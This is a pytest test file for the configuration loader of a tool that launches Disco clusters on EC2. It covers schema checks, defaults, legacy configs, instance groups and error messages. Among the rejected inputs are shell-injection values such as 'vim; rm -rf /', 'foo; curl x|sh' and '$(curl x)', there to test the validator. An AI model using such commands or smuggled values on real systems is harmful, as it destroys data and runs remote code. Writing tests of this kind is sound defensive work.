"""Config loading, defaults, validation messages and derived groups."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import pickle
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from disposabledisco import config as cfgmod
from disposabledisco.config import (
    PLACEHOLDER_AMI,
    Config,
    ConfigError,
    GroupSpec,
    default_config,
    load_config,
    load_schema,
    parse_config,
    reference_table,
)
from disposabledisco.init import render_default_config

REPO = Path(__file__).resolve().parent.parent
CONFIGS = Path(__file__).resolve().parent / "configs"
BASE = {"AMI": "ami-12345678", "KEY_NAME": "disco-test", "TAG_KEY": "disco-test"}
SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
ACCESS = "AKIAIOSFODNN7EXAMPLE"
DELETE = object()


def with_(**overrides):
    data = copy.deepcopy(BASE)
    for key, value in overrides.items():
        if value is DELETE:
            data.pop(key, None)
        else:
            data[key] = value
    return data


def problems_of(data) -> list[str]:
    with pytest.raises(ConfigError) as info:
        parse_config(data)
    assert info.value.problems, "a ConfigError must say what is wrong"
    assert str(info.value) == "\n".join(info.value.problems)
    return info.value.problems


# --------------------------------------------------------------------------- schema


def test_schema_is_valid_draft_2020_12_and_describes_every_key():
    schema = load_schema()
    Draft202012Validator.check_schema(schema)
    assert schema["additionalProperties"] is False
    assert set(schema["required"]) == {"AMI", "KEY_NAME", "TAG_KEY"}
    for key, prop in schema["properties"].items():
        assert prop.get("description"), f"{key} has no description"
        if key not in schema["required"] and key != "$schema":
            assert "default" in prop, f"{key} has no default"
    for key, prop in schema["$defs"]["slaveGroup"]["properties"].items():
        assert prop.get("description"), f"SLAVE_GROUPS[].{key} has no description"


def test_schema_covers_the_contract_keys():
    design_keys = {
        "AMI", "INSTANCE_TYPE", "MASTER_INSTANCE_TYPE", "SLAVE_INSTANCE_TYPE", "MAX_BID",
        "KEY_NAME", "SECURITY_GROUPS", "MGMT_KEY", "TAG_KEY", "NUM_SLAVES",
        "MASTER_MULTIPLIER", "SLAVE_MULTIPLIER", "BASE_PACKAGES", "ADDITIONAL_PACKAGES",
        "PIP_REQUIREMENTS", "POST_INIT", "AWS_ACCESS", "AWS_SECRET", "REGION", "AWS_PROFILE",
        "ENDPOINT_URL", "SUBNET_ID", "AVAILABILITY_ZONE", "IAM_INSTANCE_PROFILE",
        "SLAVE_GROUPS", "MASTER_MARKET", "SPOT_REQUEST_TYPE", "SPOT_OPEN_TIMEOUT_MINUTES",
        "SPOT_FALLBACK", "UNRESPONSIVE_MINUTES", "MAX_HOURLY_COST", "SSH_USER",
        "SSH_KEY_FILE", "SSH_PORT", "SSH_ADDRESS", "SSH_CONCURRENCY", "HOST_KEY_POLICY",
        "STATE_DIR", "DISCO_INSTALL", "DISCO_TARBALL", "DISCO_APT_SOURCE",
        "DISCO_APT_PACKAGES", "DISCO_USER", "DISCO_ROOT", "DISCO_PORT", "DISCO_SETTINGS",
        "MANAGE_HOSTS_FILE",
    }
    # beyond DESIGN.md: how long a pass waits for SSH; the tarball's pinned hash; the
    # source build (issue 8)
    ours = {"SSH_DEADLINE_SECONDS", "DISCO_TARBALL_SHA256", "DISCO_SOURCE",
            "DISCO_SOURCE_SHA256", "DISCO_SOURCE_BASE_URL", "IDLE_MINUTES", "IDLE_ACTION",
            "LAUNCH_API", "CAPACITY_PARK_MINUTES"}
    assert set(load_schema()["properties"]) == design_keys | ours | {"$schema"}


def test_reference_doc_is_the_committed_rendering():
    committed = (REPO / "docs" / "config-reference.md").read_text(encoding="utf-8")
    assert committed == reference_table(), (
        "docs/config-reference.md is stale: python -m disposabledisco.config "
        "> docs/config-reference.md"
    )
    for key in load_schema()["properties"]:
        assert f"| `{key}` |" in committed


# --------------------------------------------------------------------------- defaults


def test_default_config_is_valid_and_round_trips(tmp_path):
    data = default_config()
    assert data["AMI"] == PLACEHOLDER_AMI and data["KEY_NAME"] == "your-ec2-key-pair"
    assert re.fullmatch(r"disco-[0-9a-f]{8}", data["TAG_KEY"])
    assert data["$schema"] == "./disposabledisco.schema.json"  # beside the config, 3f40482
    assert "AWS_SECRET" not in data and "AWS_ACCESS" not in data
    text = render_default_config()
    printed = json.loads(text)
    assert text.endswith("}\n") and printed["TAG_KEY"] != data["TAG_KEY"]
    assert printed == {**data, "TAG_KEY": printed["TAG_KEY"]}
    data = printed
    path = tmp_path / "config.json"
    path.write_text(text)
    loaded = load_config(path)
    parsed = parse_config(json.loads(text))
    assert dict(loaded.values) == dict(parsed.values)
    assert any("placeholder" in w for w in loaded.warnings)
    # Every value in the file survives loading (prices become floats).
    for key, value in data.items():
        if key == "$schema":
            assert key not in loaded.values
        elif key == "MAX_BID":
            assert loaded[key] == 0.1
        else:
            assert loaded[key] == value, key
    # Writing the loaded values back out gives a config that loads the same.
    again = parse_config(dict(loaded.values))
    assert dict(again.values) == dict(loaded.values)


def test_defaults_apply_to_a_minimal_config():
    c = load_config(CONFIGS / "minimal.json")
    assert c["INSTANCE_TYPE"] == "m5.large"
    assert c["MAX_BID"] == 0.1 and isinstance(c["MAX_BID"], float)
    assert c.tag_key == "disco-minimal"
    assert c["SSH_USER"] == "ubuntu" and c["SSH_PORT"] == 22 and c["SSH_CONCURRENCY"] == 1024
    assert c["MASTER_MARKET"] == "spot" and c["SPOT_REQUEST_TYPE"] == "one-time"
    assert c["SPOT_OPEN_TIMEOUT_MINUTES"] == 10 and c["UNRESPONSIVE_MINUTES"] == 15
    assert c["HOST_KEY_POLICY"] == "pin" and c["DISCO_INSTALL"] == "preinstalled"
    assert c["DISCO_USER"] == "disco" and c["DISCO_ROOT"] == "/srv/disco"
    assert c["DISCO_PORT"] == 8989 and c["MANAGE_HOSTS_FILE"] is True
    assert "python3" in c["BASE_PACKAGES"]
    assert c["MAX_HOURLY_COST"] is None and c["REGION"] is None and c["SLAVE_GROUPS"] is None
    assert set(c.values) == set(load_schema()["properties"]) - {"$schema"}
    assert c.master == GroupSpec("master", "master", "m5.large", 1, 0.1, 1, "spot")
    assert c.slave_groups == (GroupSpec("slave", "m5.large", "m5.large", 0, 0.1, 1, "spot"),)
    assert c.desired_slaves == 0
    assert c.warnings == ()


def test_init_writes_a_new_unique_tag_key_each_time():
    keys = {json.loads(render_default_config())["TAG_KEY"] for _ in range(20)}
    assert len(keys) == 20
    assert all(re.fullmatch(r"disco-[0-9a-f]{8}", k) for k in keys)


def test_a_foreign_tag_key_message_is_one_sentence_with_the_fix():
    (problem,) = problems_of(with_(TAG_KEY="Name"))
    assert problem.startswith('TAG_KEY is "Name", but ')
    assert problem.replace("e.g. ", "").count(". ") == 0 and problem.endswith(".")
    assert "does not own" in problem and '"disco-<something unique>"' in problem


def test_mgmt_key_comes_from_the_first_public_key_found(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    assert default_config()["MGMT_KEY"] == ""
    ssh = tmp_path / ".ssh"
    ssh.mkdir()
    rsa = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 me@rsa"
    ed = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB me@ed"
    (ssh / "id_rsa.pub").write_text(rsa + "\n")
    assert default_config()["MGMT_KEY"] == rsa
    (ssh / "id_ed25519.pub").write_text(ed + "\n")
    assert default_config()["MGMT_KEY"] == ed
    parse_config(default_config())


# --------------------------------------------------------------------------- original


def test_original_2012_config_loads_with_its_meaning():
    path = CONFIGS / "original_2012.json"
    raw = json.loads(path.read_text())
    c = load_config(path)
    assert c.path == path
    assert c["AMI"] == "ami-6d3f9704" and c["KEY_NAME"] == "sajal"
    assert c["SECURITY_GROUPS"] == ["disco"]
    assert c.tag_key == "disposabledisco"
    assert any("default of earlier versions" in w for w in c.warnings)
    assert c["MAX_BID"] == 0.10
    assert c.master == GroupSpec("master", "master", "m1.large", 1, 0.10, 1, "spot")
    assert c.slave_groups == (GroupSpec("slave", "c1.xlarge", "c1.xlarge", 4, 0.10, 2, "spot"),)
    assert c.desired_slaves == 4
    assert c["BASE_PACKAGES"] == raw["BASE_PACKAGES"]
    assert c["ADDITIONAL_PACKAGES"] == raw["ADDITIONAL_PACKAGES"]
    assert c["PIP_REQUIREMENTS"] == ["iso8601"]
    assert c["POST_INIT"] == raw["POST_INIT"]
    assert c["MGMT_KEY"] == raw["MGMT_KEY"].strip()
    assert c["AWS_ACCESS"] == ACCESS and c["AWS_SECRET"] == SECRET
    assert SECRET not in repr(c)


def test_original_style_instance_type_fallbacks():
    c = parse_config(with_(INSTANCE_TYPE="c1.xlarge", SLAVE_INSTANCE_TYPE="m1.small",
                           NUM_SLAVES=3, MAX_BID="0.05"))
    assert c.master.instance_type == "c1.xlarge" and c.master.max_bid == 0.05
    assert [(g.instance_type, g.count) for g in c.slave_groups] == [("m1.small", 3)]


# --------------------------------------------------------------------------- groups


def test_slave_groups_fixture():
    c = load_config(CONFIGS / "slave_groups.json")
    assert c.master == GroupSpec("master", "master", "m5.large", 1, None, 1, "on-demand")
    assert c.slave_groups == (
        GroupSpec("slave", "c5.2xlarge", "c5.2xlarge", 3, 0.25, 2, "spot"),
        GroupSpec("slave", "c6gn.16xlarge", "c6gn.16xlarge", 1, 1.5, 4, "spot"),
        GroupSpec("slave", "m5.large", "m5.large", 0, 0.12, 2, "spot"),
    )
    assert c.desired_slaves == 4 and c["NUM_SLAVES"] == 4
    assert c["MAX_HOURLY_COST"] == 5.0
    assert all(isinstance(g["MAX_BID"], float) for g in c["SLAVE_GROUPS"])
    assert c.groups == (c.master, *c.slave_groups)


def test_num_slaves_may_repeat_the_groups_total():
    groups = [{"INSTANCE_TYPE": "c5.large", "COUNT": 2}, {"INSTANCE_TYPE": "m5.large", "COUNT": 1}]
    assert parse_config(with_(SLAVE_GROUPS=groups, NUM_SLAVES=3)).desired_slaves == 3


def test_slave_instance_type_with_groups_is_a_warning():
    c = parse_config(with_(SLAVE_INSTANCE_TYPE="m5.xlarge",
                           SLAVE_GROUPS=[{"INSTANCE_TYPE": "c5.large", "COUNT": 1}]))
    assert any("SLAVE_INSTANCE_TYPE is ignored" in w for w in c.warnings)


def test_whole_number_floats_become_ints():
    c = parse_config(with_(NUM_SLAVES=2.0, SSH_PORT=22.0, MAX_BID=1, IDLE_MINUTES=30.0))
    assert c["NUM_SLAVES"] == 2 and isinstance(c["NUM_SLAVES"], int)
    assert isinstance(c["SSH_PORT"], int)
    assert c["IDLE_MINUTES"] == 30 and type(c["IDLE_MINUTES"]) is int  # integer or null
    assert c["MAX_BID"] == 1.0 and isinstance(c["MAX_BID"], float)


# --------------------------------------------------------------------------- accepted


@pytest.mark.parametrize("key,value", [
    ("AMI", "ami-0123456789abcdef0"),
    ("INSTANCE_TYPE", "c6gn.16xlarge"),
    ("INSTANCE_TYPE", "u-6tb1.metal"),
    ("TAG_KEY", "my cluster/prod:1 @team+x=y"),
    ("TAG_KEY", "awsome"),
    ("TAG_KEY", "Names"),
    ("TAG_KEY", "disco-ray-x"),
    ("TAG_KEY", "rayon"),
    ("MAX_BID", "0.10"),
    ("MAX_BID", 0.1),
    ("MAX_BID", "2"),
    ("PIP_REQUIREMENTS", ["numpy>=1.24,<2", "requests[socks]==2.31.0", "pandas",
                          "scipy ~= 1.11", "Django==4.2.*", "zope.interface", "a_b-c.d[x,y]>1"]),
    ("ADDITIONAL_PACKAGES", ["g++", "libstdc++6", "python3.11", "git=1:2.34.1-1ubuntu1"]),
    ("SECURITY_GROUPS", ["default", "sg-12345678", "sg-0123456789abcdef0", "disco cluster"]),
    ("MGMT_KEY", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB me@host\n"
                 "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTY= other\n"),
    ("MGMT_KEY", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ=="),
    ("REGION", "us-gov-west-1"),
    ("ENDPOINT_URL", "http://127.0.0.1:5000"),
    ("ENDPOINT_URL", "https://ec2.eu-central-1.amazonaws.com/"),
    ("IAM_INSTANCE_PROFILE", "arn:aws:iam::123456789012:instance-profile/disco/Role-1"),
    ("IAM_INSTANCE_PROFILE", "disco-nodes"),
    ("SSH_KEY_FILE", "~/.ssh/disco key.pem"),
    ("DISCO_SETTINGS", {"DDFS_TAG_MIN_REPLICAS": 1, "DISCO_DEBUG": True, "DISCO_X": "a b"}),
    ("MAX_HOURLY_COST", "0.10"),
    ("DISCO_ROOT", "/opt/disco"),
    ("DISCO_ROOT", "/var/lib/disco"),
    ("DISCO_ROOT", "/home/disco"),
    ("DISCO_ROOT", "/data"),
    ("DISCO_ROOT", "/srv/disco/data"),
    ("DISCO_USER", "hadoop"),
    ("DISCO_USER", "disco-1"),
])
def test_good_values_are_accepted(key, value):
    parse_config(with_(**{key: value}))


@pytest.mark.parametrize("install,extra", [
    ("tarball", {"DISCO_TARBALL": "~/src/disco-0.5.4.tar.gz"}),
    ("tarball", {"DISCO_TARBALL": "https://example.org/d.tgz?X-Amz-Signature=ab&x=1"}),
    ("tarball", {"DISCO_TARBALL": "s3://my-bucket/releases/disco-0.5.4.tar.gz"}),
    ("apt", {"DISCO_APT_SOURCE": "deb [signed-by=/usr/share/keyrings/disco.gpg arch=amd64] "
                                 "https://apt.example.org/disco stable main contrib"}),
    ("apt", {"DISCO_APT_SOURCE": "deb http://apt.example.org/disco ./"}),
    ("none", {}),
])
def test_install_modes(install, extra):
    parse_config(with_(DISCO_INSTALL=install, **extra))


# --------------------------------------------------------------------------- rejected

# (case id, overrides, text that names the field, text of the fix)
BAD = [
    ("unknown key", {"num_slaves": 3}, "num_slaves", "did you mean NUM_SLAVES?"),
    ("unknown key typo", {"INSTANCE_TPYE": "m5.large"}, "INSTANCE_TPYE",
     "did you mean INSTANCE_TYPE?"),
    ("unknown key no match", {"ZZZ": 1}, "ZZZ", "config-reference.md"),
    ("aws tag key", {"TAG_KEY": "aws:cluster"}, "TAG_KEY", 'not starting with "aws:"'),
    ("AWS tag key", {"TAG_KEY": "AWS:cluster"}, "TAG_KEY", 'not starting with "aws:"'),
    ("tag key too long", {"TAG_KEY": "x" * 129}, "TAG_KEY", "1 to 128 characters"),
    ("reserved tag prefix", {"TAG_KEY": "disposabledisco:x"}, "TAG_KEY", "bookkeeping tags"),
    ("tag key missing", {"TAG_KEY": DELETE}, "TAG_KEY is missing",
     '"TAG_KEY": "disco-<something unique>"'),
    ("tag key Name", {"TAG_KEY": "Name"}, "TAG_KEY", "instance name tag"),
    ("tag key name lowercase", {"TAG_KEY": "nAME"}, "TAG_KEY", "instance name tag"),
    ("tag key kubernetes", {"TAG_KEY": "kubernetes.io/cluster/prod"}, "TAG_KEY", "Kubernetes"),
    ("tag key k8s sub", {"TAG_KEY": "node.k8s.io/role"}, "TAG_KEY", "Kubernetes"),
    ("tag key k8s", {"TAG_KEY": "K8S.io/x"}, "TAG_KEY", "Kubernetes"),
    ("tag key karpenter", {"TAG_KEY": "karpenter.sh/nodepool"}, "TAG_KEY", "Karpenter"),
    ("tag key eks", {"TAG_KEY": "eks:cluster-name"}, "TAG_KEY", "Amazon EKS"),
    ("tag key beanstalk", {"TAG_KEY": "elasticbeanstalk:environment-name"}, "TAG_KEY",
     "Elastic Beanstalk"),
    ("tag key ray", {"TAG_KEY": "ray-cluster-name"}, "TAG_KEY", "Ray"),
    ("tag key flintrock", {"TAG_KEY": "flintrock-role"}, "TAG_KEY", "Flintrock"),
    ("bad AMI", {"AMI": "ami-xyz"}, "AMI", "8 or 17 lowercase hex digits"),
    ("AMI newline", {"AMI": "ami-12345678\n"}, "AMI", "8 or 17 lowercase hex digits"),
    ("missing AMI", {"AMI": DELETE}, "AMI is missing", "ami-"),
    ("empty KEY_NAME", {"KEY_NAME": ""}, "KEY_NAME", "non-empty name of an EC2 key pair"),
    ("negative NUM_SLAVES", {"NUM_SLAVES": -1}, "NUM_SLAVES", "from 0 to 1000"),
    ("NUM_SLAVES as string", {"NUM_SLAVES": "3"}, "NUM_SLAVES", "whole number"),
    ("price in words", {"MAX_BID": "ten cents"}, "MAX_BID", 'a string like "0.10"'),
    ("price zero", {"MAX_BID": 0}, "MAX_BID", "greater than 0"),
    ("price zero string", {"MAX_BID": "0.00"}, "MAX_BID", "greater than 0"),
    ("price NaN", {"MAX_BID": float("nan")}, "MAX_BID", "finite number"),
    ("package injection", {"ADDITIONAL_PACKAGES": ["git", "vim; rm -rf /"]},
     "ADDITIONAL_PACKAGES[1]", "Debian package name"),
    ("packages not a list", {"BASE_PACKAGES": "vim"}, "BASE_PACKAGES", "list of"),
    ("pip option", {"PIP_REQUIREMENTS": ["--index-url http://x"]}, "PIP_REQUIREMENTS[0]",
     "pip requirement"),
    ("pip shell", {"PIP_REQUIREMENTS": ["foo; curl x|sh"]}, "PIP_REQUIREMENTS[0]",
     "no options, URLs, markers or shell characters"),
    ("pip marker", {"PIP_REQUIREMENTS": ['foo; python_version<"3.8"']}, "PIP_REQUIREMENTS[0]",
     "pip requirement"),
    ("ssh port", {"SSH_PORT": 70000}, "SSH_PORT", "from 1 to 65535"),
    ("market", {"MASTER_MARKET": "cheap"}, "MASTER_MARKET", '"spot", "on-demand"'),
    ("ssh address", {"SSH_ADDRESS": "public"}, "SSH_ADDRESS", '"public_ip"'),
    ("host key policy", {"HOST_KEY_POLICY": "trust"}, "HOST_KEY_POLICY", '"pin"'),
    ("group missing COUNT", {"SLAVE_GROUPS": [{"INSTANCE_TYPE": "m5.large"}]},
     "SLAVE_GROUPS[0].COUNT is missing", "whole number from 0 to 1000"),
    ("group types repeat", {"SLAVE_GROUPS": [{"INSTANCE_TYPE": "m5.large", "COUNT": 1},
                                             {"INSTANCE_TYPE": "m5.large", "COUNT": 2}]},
     "SLAVE_GROUPS[1].INSTANCE_TYPE", "merge the two"),
    ("group extra key", {"SLAVE_GROUPS": [{"INSTANCE_TYPE": "m5.large", "COUNT": 1,
                                           "PRICE": "0.1"}]},
     "SLAVE_GROUPS[0].PRICE", "INSTANCE_TYPE, COUNT, MAX_BID, MULTIPLIER"),
    ("group key typo", {"SLAVE_GROUPS": [{"INSTANCE_TYPE": "m5.large", "COUNT": 1,
                                          "MULTIPLER": 2}]},
     "SLAVE_GROUPS[0].MULTIPLER", "did you mean SLAVE_GROUPS[0].MULTIPLIER?"),
    ("group bad bid", {"SLAVE_GROUPS": [{"INSTANCE_TYPE": "m5.large", "COUNT": 1,
                                         "MAX_BID": "free"}]},
     "SLAVE_GROUPS[0].MAX_BID", "greater than 0"),
    ("groups vs NUM_SLAVES", {"NUM_SLAVES": 5,
                              "SLAVE_GROUPS": [{"INSTANCE_TYPE": "m5.large", "COUNT": 2}]},
     "NUM_SLAVES", "remove NUM_SLAVES"),
    ("groups too many", {"SLAVE_GROUPS": [{"INSTANCE_TYPE": "m5.large", "COUNT": 600},
                                          {"INSTANCE_TYPE": "c5.large", "COUNT": 600}]},
     "SLAVE_GROUPS", "at most 1000"),
    ("multiplier", {"MASTER_MULTIPLIER": 0}, "MASTER_MULTIPLIER", "from 1 to 64"),
    ("tarball missing", {"DISCO_INSTALL": "tarball"}, "DISCO_TARBALL",
     'required when DISCO_INSTALL is "tarball"'),
    ("tarball null", {"DISCO_INSTALL": "tarball", "DISCO_TARBALL": None}, "DISCO_TARBALL",
     "https:// URL"),
    ("tarball injection", {"DISCO_INSTALL": "tarball", "DISCO_TARBALL": "`rm -rf /`"},
     "DISCO_TARBALL", "no quotes or shell characters"),
    ("apt source missing", {"DISCO_INSTALL": "apt"}, "DISCO_APT_SOURCE", "deb"),
    ("apt source injection", {"DISCO_INSTALL": "apt",
                              "DISCO_APT_SOURCE": "deb http://x/ $(curl x) main"},
     "DISCO_APT_SOURCE", "no quotes, newlines or shell characters"),
    ("apt source newline", {"DISCO_INSTALL": "apt",
                            "DISCO_APT_SOURCE": "deb http://x/ stable main\ndeb http://y/ a b"},
     "DISCO_APT_SOURCE", "one line"),
    ("tarball sha256 short", {"DISCO_TARBALL_SHA256": "ab" * 31}, "DISCO_TARBALL_SHA256",
     "64 hex digits"),
    ("tarball sha256 not hex", {"DISCO_TARBALL_SHA256": "g" * 64}, "DISCO_TARBALL_SHA256",
     "64 hex digits"),
    ("disco settings key", {"DISCO_SETTINGS": {"FOO": 1}}, "DISCO_SETTINGS",
     "DISCO_ or DDFS_"),
    ("disco settings value", {"DISCO_SETTINGS": {"DISCO_X": [1]}}, "DISCO_SETTINGS.DISCO_X",
     "a number or true/false"),
    ("disco settings managed", {"DISCO_SETTINGS": {"DISCO_PORT": 1}},
     "DISCO_SETTINGS.DISCO_PORT", "top-level DISCO_PORT"),
    ("disco root relative", {"DISCO_ROOT": "srv/disco"}, "DISCO_ROOT", "absolute path"),
    ("disco root dotdot", {"DISCO_ROOT": "/srv/../etc"}, "DISCO_ROOT", "absolute path"),
    ("disco user", {"DISCO_USER": "Disco User"}, "DISCO_USER", "POSIX user name"),
    ("disco root /", {"DISCO_ROOT": "/"}, "DISCO_ROOT", "absolute path"),
    ("disco root /opt", {"DISCO_ROOT": "/opt"}, "DISCO_ROOT", "a system folder"),
    ("disco root /opt/", {"DISCO_ROOT": "/opt/"}, "DISCO_ROOT", "absolute path"),
    ("disco root /usr/local", {"DISCO_ROOT": "/usr/local"}, "DISCO_ROOT", "a system folder"),
    ("disco root /var/lib", {"DISCO_ROOT": "/var/lib"}, "DISCO_ROOT", "a system folder"),
    ("disco root /srv", {"DISCO_ROOT": "/srv"}, "DISCO_ROOT", '"/srv/disco"'),
    ("disco root /etc", {"DISCO_ROOT": "/etc"}, "DISCO_ROOT", "a system folder"),
    ("disco root /home", {"DISCO_ROOT": "/home"}, "DISCO_ROOT", "a system folder"),
    ("disco root /root", {"DISCO_ROOT": "/root"}, "DISCO_ROOT", "a system folder"),
    ("disco root /tmp", {"DISCO_ROOT": "/tmp"}, "DISCO_ROOT", "a system folder"),
    ("disco root under /proc", {"DISCO_ROOT": "/proc/disco"}, "DISCO_ROOT", "a system folder"),
    ("disco root under /run", {"DISCO_ROOT": "/run/disco/data"}, "DISCO_ROOT",
     "a system folder"),
    ("disco root ssh home", {"DISCO_ROOT": "/home/ubuntu"}, "DISCO_ROOT",
     'home of SSH_USER "ubuntu"'),
    ("disco user root", {"DISCO_USER": "root"}, "DISCO_USER", "root itself"),
    ("disco user is ssh user", {"DISCO_USER": "ubuntu"}, "DISCO_USER", "same account as SSH_USER"),
    ("disco user is other ssh user", {"DISCO_USER": "ec2-user", "SSH_USER": "ec2-user"},
     "DISCO_USER", "passwordless sudo"),
    ("disco user daemon", {"DISCO_USER": "daemon"}, "DISCO_USER", "a system or login account"),
    ("disco user www-data", {"DISCO_USER": "www-data"}, "DISCO_USER", "unprivileged account"),
    ("disco user sshd", {"DISCO_USER": "sshd"}, "DISCO_USER", "a system or login account"),
    ("disco user nobody", {"DISCO_USER": "nobody"}, "DISCO_USER", "a system or login account"),
    ("disco user login account", {"DISCO_USER": "ubuntu", "SSH_USER": "admin"}, "DISCO_USER",
     "a system or login account"),
    ("access without secret", {"AWS_ACCESS": ACCESS}, "AWS_SECRET", "give both"),
    ("secret without access", {"AWS_SECRET": SECRET}, "AWS_ACCESS", "give both"),
    ("cost below bid", {"MAX_HOURLY_COST": "0.05", "MAX_BID": "0.10"}, "MAX_HOURLY_COST",
     "raise MAX_HOURLY_COST"),
    ("mgmt key with options", {"MGMT_KEY": 'command="sh" ssh-rsa AAAAB3Nza me'}, "MGMT_KEY",
     "OpenSSH public key"),
    ("endpoint scheme", {"ENDPOINT_URL": "ftp://example.org"}, "ENDPOINT_URL", "http://"),
    ("region", {"REGION": "US East"}, "REGION", "us-east-1"),
    ("zone outside region", {"REGION": "us-east-1", "AVAILABILITY_ZONE": "eu-west-1a"},
     "AVAILABILITY_ZONE", "us-east-1a"),
    ("subnet", {"SUBNET_ID": "sub-123"}, "SUBNET_ID", '"subnet-"'),
    ("security groups not list", {"SECURITY_GROUPS": "default"}, "SECURITY_GROUPS", "list"),
    ("security groups repeat", {"SECURITY_GROUPS": ["a", "a"]}, "SECURITY_GROUPS",
     "without duplicates"),
    ("ssh concurrency", {"SSH_CONCURRENCY": 0}, "SSH_CONCURRENCY", "from 1 to 4096"),
    ("spot timeout", {"SPOT_OPEN_TIMEOUT_MINUTES": 0}, "SPOT_OPEN_TIMEOUT_MINUTES",
     "from 1 to 10080"),
    ("boolean", {"MANAGE_HOSTS_FILE": "yes"}, "MANAGE_HOSTS_FILE", "true or false"),
    ("post init type", {"POST_INIT": ["echo"]}, "POST_INIT", "shell script"),
]


@pytest.mark.parametrize("overrides,field,hint", [c[1:] for c in BAD], ids=[c[0] for c in BAD])
def test_bad_config_is_rejected_with_field_and_fix(overrides, field, hint):
    problems = problems_of(with_(**overrides))
    assert any(field in p and hint in p for p in problems), problems
    for p in problems:
        assert "\n" not in p, "each problem is one line"
        assert "Traceback" not in p


def test_at_least_twenty_distinct_bad_configs():
    assert len({c[0] for c in BAD}) >= 20


def test_messages_show_the_bad_value_truncated():
    (problem,) = problems_of(with_(AMI="ami-" + "z" * 200))
    assert '"ami-zzz' in problem and "…" in problem and len(problem) < 300


@pytest.mark.parametrize("data", [
    with_(AWS_ACCESS=ACCESS, AWS_SECRET=SECRET, NUM_SLAVES=-1),
    with_(AWS_ACCESS=ACCESS, AWS_SECRET=SECRET + " x"),
    with_(AWS_ACCESS=SECRET + " x", AWS_SECRET=SECRET),
    with_(AWS_SECRET=SECRET),
    with_(AWS_ACCESS=ACCESS, AWS_SECRET=SECRET, KEY_NAME=SECRET + "\n"),
    with_(AWS_ACCESS=ACCESS, AWS_SECRET=SECRET, aws_secret=SECRET),
])
def test_aws_secret_value_is_never_in_a_message(data):
    problems = problems_of(data)
    text = "\n".join(problems)
    assert SECRET not in text and SECRET[:20] not in text
    if "AWS_SECRET" in data and data["AWS_SECRET"] != SECRET:
        assert any("AWS_SECRET (value hidden)" in p for p in problems)


def test_aws_access_value_is_never_in_a_message():
    problems = problems_of(with_(AWS_ACCESS="AKIA 1234567890", AWS_SECRET=SECRET))
    assert any(p.startswith("AWS_ACCESS (value hidden)") for p in problems)
    assert "AKIA 1234567890" not in "\n".join(problems)


def test_multiple_errors_are_reported_together_sorted_by_path():
    data = with_(AMI="bad", NUM_SLAVES=-1, SSH_PORT=0, num_slave=1,
                 SLAVE_GROUPS=None, ADDITIONAL_PACKAGES=["ok-pkg", "BAD PKG"])
    del data["KEY_NAME"]
    problems = problems_of(data)
    assert len(problems) == 6
    assert [p.split(" ")[0] for p in problems] == [
        "ADDITIONAL_PACKAGES[1]", "AMI", "KEY_NAME", "NUM_SLAVES", "SSH_PORT", "num_slave",
    ]


def test_one_message_per_field():
    problems = problems_of(with_(KEY_NAME=""))  # fails minLength and pattern
    assert len(problems) == 1


@pytest.mark.parametrize("data,kind", [([1, 2], "a list"), ("x", "a string"), (None, "null")])
def test_top_level_must_be_an_object(data, kind):
    (problem,) = problems_of(data)
    assert "JSON object" in problem and kind in problem


# --------------------------------------------------------------------------- files


def write(tmp_path, text: str, name: str = "config.json") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def load_problems(path) -> list[str]:
    with pytest.raises(ConfigError) as info:
        load_config(path)
    return info.value.problems


def test_invalid_json_names_line_and_column(tmp_path):
    path = write(tmp_path, '{\n  "AMI": "ami-12345678",\n  "KEY_NAME": "k"\n  "X": 1\n}\n')
    (problem,) = load_problems(path)
    assert str(path) in problem and "not valid JSON" in problem
    assert "line 4, column 3" in problem


def test_missing_file(tmp_path):
    (problem,) = load_problems(tmp_path / "nope.json")
    assert "nope.json" in problem and "does not exist" in problem and "init" in problem


def test_folder_empty_file_and_binary_file(tmp_path):
    assert "folder" in load_problems(tmp_path)[0]
    assert "empty" in load_problems(write(tmp_path, "  \n", "empty.json"))[0]
    binary = tmp_path / "bin.json"
    binary.write_bytes(b"\xff\xfe{}")
    assert "UTF-8" in load_problems(binary)[0]


@pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0, reason="root reads any file")
def test_unreadable_file(tmp_path):
    path = write(tmp_path, json.dumps(BASE))
    path.chmod(0)
    assert "cannot read" in load_problems(path)[0]


def test_top_level_array_file(tmp_path):
    (problem,) = load_problems(write(tmp_path, "[1, 2]"))
    assert problem.startswith(f"{tmp_path / 'config.json'}: ") and "JSON object" in problem


def test_file_problems_name_the_file(tmp_path):
    path = write(tmp_path, json.dumps(with_(SSH_PORT=0)))
    (problem,) = load_problems(path)
    assert problem.startswith(f"{path}: SSH_PORT is 0")


def test_duplicate_keys_and_nan_in_a_file(tmp_path):
    path = write(tmp_path, '{"AMI": "ami-12345678", "KEY_NAME": "a", "KEY_NAME": "b", '
                           '"MAX_BID": NaN}')
    problems = load_problems(path)
    assert any('"KEY_NAME" appears more than once' in p for p in problems)
    assert any("MAX_BID is NaN" in p for p in problems)


def test_byte_order_mark_is_accepted(tmp_path):
    path = tmp_path / "bom.json"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(BASE).encode())
    load_config(path)


@pytest.mark.skipif(os.name == "nt", reason="POSIX permissions")
def test_secret_in_a_readable_file_is_a_warning(tmp_path):
    path = write(tmp_path, json.dumps(with_(AWS_ACCESS=ACCESS, AWS_SECRET=SECRET)))
    path.chmod(0o644)
    (warning,) = load_config(path).warnings
    assert str(path) in warning and f"chmod 600 {path}" in warning
    assert SECRET not in warning
    path.chmod(0o640)
    assert len(load_config(path).warnings) == 1
    path.chmod(0o600)
    assert load_config(path).warnings == ()
    plain = write(tmp_path, json.dumps(BASE), "plain.json")
    plain.chmod(0o644)
    assert load_config(plain).warnings == ()


def test_other_warnings():
    c = parse_config(with_(DISCO_TARBALL="x.tgz", HOST_KEY_POLICY="insecure"))
